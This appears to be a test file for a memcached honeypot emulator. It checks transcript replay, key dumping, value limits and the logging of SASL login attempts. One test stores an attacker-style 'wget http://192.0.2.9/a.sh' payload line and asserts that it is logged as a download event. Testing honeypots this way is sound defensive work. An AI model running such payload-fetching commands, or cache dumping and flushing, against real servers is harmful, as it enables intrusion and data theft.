import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import { expect, it } from 'vitest';
import { Memory } from '../memory.ts';
import { bodyOf, meet, play } from '../play.ts';
import { memcached } from './memcached.ts';

const file = join(import.meta.dirname, '../../../test/transcripts/memcached/server.txt');
const lines = readFileSync(file, 'utf8').split('\n');
const recorded = lines.flatMap((line, i) =>
  line.startsWith('> ')
    ? [[JSON.parse(line.slice(2)) as string, JSON.parse(lines[i + 1]!.slice(2)) as string]]
    : [],
);
/** Values of statistics, and the unique number of a write, differ from run to run. */
const normal = (text: string) => text.replace(/^(STAT \S+) [^\r]*/gm, '$1 *');
const masked = (text: string) => (text.startsWith('\x81') ? text.slice(0, 20) + text.slice(24) : text);

it('answers as the recorded server, one connection after the other', async () => {
  const memory = new Memory();
  const differing: unknown[] = [];
  for (const [say = '', wanted = ''] of recorded) {
    const talk = meet(memcached, { memory, options: { bare: true } });
    const got = (await talk.say(say)) + (await talk.leave());
    expect(talk.faults).toEqual([]);
    if (masked(normal(got)) !== masked(normal(wanted))) differing.push([say, normal(got), normal(wanted)]);
  }
  expect(differing).toEqual([]);
});

it('shows its owner’s items, gives them away, and remembers what was put in', async () => {
  const memory = new Memory();
  const talk = meet(memcached, { memory });
  const dump = await talk.say('stats cachedump 1 0\r\n');
  const key = /^ITEM (\S+) \[\d+ b; 0 s\]\r$/m.exec(dump)![1]!;
  expect(await talk.say(`get ${key}\r\n`)).toMatch(/user_id\|i:\d+;/);
  await talk.say('flush_all\r\nset x 0 0 28\r\nwget http://192.0.2.9/a.sh\r\n\r\n');
  await talk.leave();
  const again = meet(memcached, { memory });
  expect(await again.say('get x\r\nstats items\r\n')).toMatch(
    /^VALUE x 0 28\r\nwget[\s\S]*items:1:number 1\r/,
  );
  expect(talk.events.map(bodyOf)).toContainEqual({
    kind: 'download',
    url: 'http://192.0.2.9/a.sh',
    tool: 'wget',
  });
});

it('keeps a large value, and never more than its budget', async () => {
  const value = 'A'.repeat(100_000);
  const talk = meet(memcached);
  expect(await talk.say(`set big 0 0 ${value.length}\r\n${value}\r\n`)).toBe('STORED\r\n');
  expect([...talk.payloads.values()].map(({ length }) => length)).toEqual([100_000]);
  expect(await talk.say(`set b 0 0 1500000\r\n${'B'.repeat(1_500_000)}\r\n`)).toBe(
    'SERVER_ERROR object too large for cache\r\n',
  );
});

it('tells a login that nobody asked for', async () => {
  const auth = `\\x80\\x21\\0\\x05${'\\0'.repeat(7)}\\x0c${'\\0'.repeat(12)}PLAIN\\0ab\\0cde`;
  const bytes = auth.replace(/\\x(..)|\\0/g, (_, hex) =>
    hex ? String.fromCharCode(Number.parseInt(hex, 16)) : '\0',
  );
  expect((await play(memcached, [bytes], { end: '' })).filter((line) => line.startsWith('!'))).toEqual([
    '! command {"input":"sasl_auth PLAIN","ok":false,"detail":{"binary":true}}',
    '! login {"user":"ab","secret":"cde","ok":false,"method":"sasl PLAIN"}',
  ]);
});
